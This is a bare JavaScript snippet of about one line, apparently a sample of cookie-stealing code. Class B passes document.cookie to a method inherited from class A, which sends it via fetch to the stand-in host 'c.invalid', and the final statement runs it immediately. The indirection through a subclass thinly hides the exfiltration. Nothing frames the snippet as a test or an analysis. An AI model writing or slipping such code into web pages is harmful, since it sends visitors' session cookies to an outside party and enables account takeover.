class A { ship(x) { return fetch('https://c.invalid/' + x); } } class B extends A { go() { return this.ship(document.cookie); } } new B().go();
